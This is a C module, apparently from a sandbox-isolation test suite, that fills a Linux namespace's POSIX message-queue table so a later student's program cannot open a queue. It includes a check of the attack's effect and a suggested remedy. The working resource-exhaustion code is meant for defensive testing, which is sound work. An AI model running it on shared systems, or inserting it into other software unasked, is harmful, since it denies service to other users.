// SPDX-License-Identifier: MIT
/*
 * queue-table-full.c - 256 letter boxes for one letter each.
 *
 * Goal: the next student's honest program cannot have a message queue.
 * Means: fs.mqueue.queues_max, 256 by default, bounds the POSIX queues of a whole ipc namespace.
 * The smallest one takes about a hundred bytes of RLIMIT_MSGQUEUE, whose default is eight thousand
 * times that; and a queue stays until it is unlinked, though nobody has it open.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <stdio.h>
#include <unistd.h>

#define MOST 300 /* a little beyond the default */

static int make(const char *stem, int number, long messages)
{
	struct mq_attr attr = { .mq_maxmsg = messages, .mq_msgsize = 1 };
	char name[64];
	mqd_t queue;

	snprintf(name, sizeof(name), "/%s-%d", stem, number);
	queue = mq_open(name, O_RDWR | O_CREAT | O_EXCL, 0600, &attr);
	return queue < 0 ? -1 : mq_close(queue);
}

static enum claim run(const struct brief *b)
{
	int made = 0;

	attempting(b);
	while (made < MOST && !make(b->name, made, 1))
		made++;
	if (!made)
		return denied("mq_open");
	return made < MOST && errno == ENOSPC ? CLAIM_DONE : failed("a larger table");
}

/* Where queues are denied by policy or limit, which is not "no space", the exercise is left out. */
static enum claim victim(const struct brief *b)
{
	(void)b;
	return make("exercise", 1, 4) && errno == ENOSPC ? failed("mq_open") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the next student cannot have a message queue",
	.means = "POSIX queues, the smallest ones, until the table of the namespace is full",
	.oracle = "victim",
	.scene = SCENE_BEFORE_VICTIM,
	.attack_id = "T1499.001, CWE-770, CWE-459",
	.remedy = "RLIMIT_MSGQUEUE = 0; an allow list of system calls",
	.refs = (const char *const[]){ "mq_overview(7), queues_max", NULL },
	.run = run,
	.victim = victim,
};
